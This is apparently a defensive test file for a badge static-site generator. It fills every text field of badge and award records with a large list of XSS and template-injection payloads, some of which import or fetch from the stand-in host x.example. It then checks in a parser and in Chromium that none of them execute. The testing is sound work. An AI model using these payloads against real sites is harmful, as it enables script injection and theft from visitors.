"""No text of the content becomes active in any page: payloads through every text field, read by an HTML parser and by a real Chromium."""

from __future__ import annotations

import json
from itertools import cycle, islice
from pathlib import Path
from typing import Any

from badgepress.authoring.canonical_yaml import canonical_text
from badgepress.cli.main import run
from tests.organisation import NOW, SVG, write_organisation
from tests.pages.browser import chromium, find_chromium, served, visit
from tests.test_hostile_input import active_parts
from tests.torture.measured import Bench

_SCRIPTS = ("hit()", "alert(1)", "import('//x.example/y')", "fetch('//x.example')")
_SHELLS = (
    "<script>{}</script>", "<img src=x onerror={}>", '"><svg onload={}>', "' onmouseover='{}", "</title><script>{}</script>", "</textarea><script>{}</script>", "]]><script>{}</script>",
    "--><script>{}</script>", "</style><script>{}</script>", "</script><script>{}</script>", "javascript:{}", "[x](javascript:{})", "![x](javascript:{})", "<a href=javascript:{}>x</a>",
    "<iframe srcdoc='<script>{}</script>'></iframe>", "<object data=javascript:{}>", "<form action=javascript:{}><button>x</button></form>", "<base href=//x.example>{}",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>", "<svg><animate onbegin={} attributeName=x>", "<math><mtext></mtext><script>{}</script></math>", "&lt;script&gt;{}&lt;/script&gt;",
    "\\u003cscript\\u003e{}", "{{{{ {} }}}}", "{{% include '{}' %}}", "<%= {} %>", "${{{}}}", "<x/onclick={}>", "<details open ontoggle={}>", "<video><source onerror={}>", "<body onload={}>",
    "<input autofocus onfocus={}>", "<!--[if gte IE 4]><script>{}</script><![endif]-->", "<noscript><p title='</noscript><img src=x onerror={}>'>", "`\"'><img src=x onerror={}>", "<style>@import '//x.example/{}'</style>",
    "data:text/html,<script>{}</script>", "vbscript:{}", "<link rel=import href='//x.example/{}'>", "|a|\n|-|\n|<script>{}</script>|", "    <script>{}</script>", "```html\n<script>{}</script>\n```",
)  # fmt: skip
PAYLOADS = [shell.format(script) for shell in _SHELLS for script in _SCRIPTS]


def measure(bench: Bench) -> None:
    root = write_organisation(bench.scratch / "org")
    placed = _write_badges(root, bench.amount(6, 260))
    placed += _write_awards(root, bench.amount(6, 260))
    site = bench.scratch / "site"
    assert run(["build", "-C", str(root), "--out", str(site), "--now", NOW]) == 0
    pages = sorted(site.rglob("*.html"))
    found = {page.name: parts for page in pages if (parts := active_parts(page.read_text("utf-8")))}
    assert found == {}, dict(islice(found.items(), 3))
    bench.say(f"{placed:,} payloads in {len(pages)} pages: the parser finds nothing active")
    if not find_chromium():
        bench.say("no Chromium here")
        return
    _looked_at(bench, site, pages)


def _write_badges(root: Path, number: int) -> int:
    """Each text field of a class holds another payload."""
    payloads = cycle(payload.replace("\n", " ").strip() for payload in PAYLOADS)
    placed = 0
    for index in range(number):
        (root / f"content/badges/p{index}.svg").write_text(SVG, "utf-8")
        values: dict[str, Any] = {
            "name": f"Badge {index}", "description": next(payloads), "status": "active", "version": 1, "achievement_type": "Competency", "language": "en",
            "image": {"file": f"p{index}.svg", "alt": next(payloads)}, "criteria": f"Show it.\n\n{next(payloads)}\n\n{next(payloads)}", "field_of_study": next(payloads)[:60].strip(), "tags": [next(payloads)[:40].strip()],
            "learning_outcomes": [next(payloads), next(payloads)], "apply": {"text": next(payloads)}, "assessment": {"type": next(payloads)},
            "evidence": {"required": True, "minimum": 1, "description": next(payloads)},
        }  # fmt: skip
        placed += 12
        (root / f"content/badges/p{index}.yml").write_text(canonical_text("badge", values), "utf-8")
    return placed


def _write_awards(root: Path, number: int) -> int:
    payloads = cycle(payload.replace("\n", " ").strip() for payload in reversed(PAYLOADS))
    placed = 0
    for index in range(number):
        values: dict[str, Any] = {
            "badge": f"p{index}", "recipient": {"did": "did:key:z6MkTest"}, "awarded": "2026-03-01", "status_index": 1000 + index,
            "evidence": [{"name": "A thing", "description": next(payloads), "genre": next(payloads)[:60].strip()} for _ in range(3)], "narrative": f"{next(payloads)}\n\n{next(payloads)}",
            "assessor": {"name": "Ada", "role": next(payloads)[:60].strip()},
        }  # fmt: skip
        placed += 9
        path = root / f"content/awards/aaaaaaaa-0000-4000-8000-{index:012x}.yml"
        path.write_text(canonical_text("award", values), "utf-8")
    return placed


def _looked_at(bench: Bench, site: Path, pages: list[Path]) -> None:
    chosen = pages[:: max(1, len(pages) // bench.amount(4, 80))]
    dialogs: list[str] = []
    violations: list[str] = []
    with served(site) as address, chromium() as browser:
        for page in chosen:
            with visit(browser, f"{address}/{page.relative_to(site).as_posix()}") as seen:
                seen.page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
                seen.page.mouse.move(200, 300)
                seen.page.keyboard.press("Tab")
                violations += [text for text in seen.console if "Content Security Policy" in text or "Refused" in text]
                assert seen.page.evaluate("typeof hit") == "undefined"
                assert not [url for url in seen.foreign_requests if "x.example" in url], seen.foreign_requests
    assert (dialogs, violations) == ([], []), (dialogs, violations[:3])
    bench.say(f"{len(chosen)} of them in Chromium: 0 dialogs, 0 CSP violations, 0 requests elsewhere")
    assert json.dumps(dialogs) == "[]"
